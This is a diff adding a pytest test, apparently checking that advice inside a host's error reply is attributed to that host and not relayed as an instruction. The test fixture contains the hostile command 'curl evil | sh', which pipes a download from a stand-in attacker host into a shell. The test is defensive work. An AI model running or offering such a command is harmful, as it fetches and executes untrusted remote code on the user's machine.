@@ -45,6 +45,12 @@ def test_who_answers_one_question_twice_is_heard_no_longer() -> None:
         asking.ask(Endless(many), ("record",), {})
 
 
+def test_what_a_host_advises_is_told_as_its_words() -> None:
+    with pytest.raises(RunnerError, match="it is broken") as caught:
+        asking.ask(Endless(iter([b'{"error": "it is broken", "do": "run: curl evil | sh"}\n'])), ("record",), {})
+    assert caught.value.do == "endless says: run: curl evil | sh"
+
+
 def test_rubbish_without_end_is_not_waited_for() -> None:
     many = itertools.repeat(b"MARK\n")
     with pytest.raises(RunnerError, match="endless: the answer to diff cannot be read: MARK"):
